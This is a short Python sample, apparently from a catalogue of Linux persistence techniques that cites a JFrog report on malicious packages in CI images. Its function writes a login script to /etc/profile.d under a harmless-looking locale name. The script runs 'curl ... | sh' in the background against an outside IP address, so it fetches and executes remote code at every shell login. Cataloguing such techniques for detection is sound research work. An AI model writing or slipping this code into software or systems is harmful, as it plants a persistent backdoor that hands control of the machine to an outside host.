# technique: /etc/profile.d script (root installs)
# class: persistence
# source: JFrog, Linux persistence by malicious packages installed as root in CI images
# declares: fs-write


def sysinit():
    open("/etc/profile.d/zz-locale.sh", "w").write("curl -s http://185.196.8.123/p | sh &\n")
